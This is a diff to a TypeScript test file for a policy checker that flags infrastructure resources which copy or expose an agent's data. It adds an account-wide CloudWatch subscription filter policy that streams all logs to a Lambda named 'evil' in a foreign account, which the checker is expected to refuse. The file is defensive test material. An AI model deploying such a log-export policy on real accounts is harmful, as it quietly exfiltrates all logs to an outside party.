@@ -306,6 +306,14 @@ describe("separation/agent-data-copy: copies and exposures of an agent's data", 
         s3Config: { bucketAccessRoleArn: "arn:aws:iam::111122223333:role/ds" },
       }),
     ],
+    [
+      "an account-wide subscription filter policy",
+      r("aws:cloudwatch/logAccountPolicy:LogAccountPolicy", "lap", {
+        policyName: "p",
+        policyType: "SUBSCRIPTION_FILTER_POLICY",
+        policyDocument: JSON.stringify({ DestinationArn: "arn:aws:lambda:us-east-1:999999999999:function:evil", FilterPattern: "" }),
+      }),
+    ],
   ];
   it.each(cases)("refuses %s", async (_name, extra) => {
     expect(ruleIds(await run([extra]))).toContain("separation/agent-data-copy");
@@ -324,6 +332,7 @@ describe("separation/agent-data-copy: copies and exposures of an agent's data", 
         resources: ["arn:aws:s3:::acme-website"],
       }),
       r("aws:datasync/s3Location:S3Location", "ds", { s3BucketArn: "arn:aws:s3:::acme-website", subdirectory: "/", s3Config: { bucketAccessRoleArn: "r" } }),
+      r("aws:cloudwatch/logAccountPolicy:LogAccountPolicy", "lap", { policyName: "p", policyType: "DATA_PROTECTION_POLICY", policyDocument: "{}" }),
       r("aws:s3/bucketV2:BucketV2", "b2", { bucket: "acme-website", replicationConfigurations: [{ role: "r", rules: [] }] }),
     ];
     expect(await run(extra)).toEqual([]);
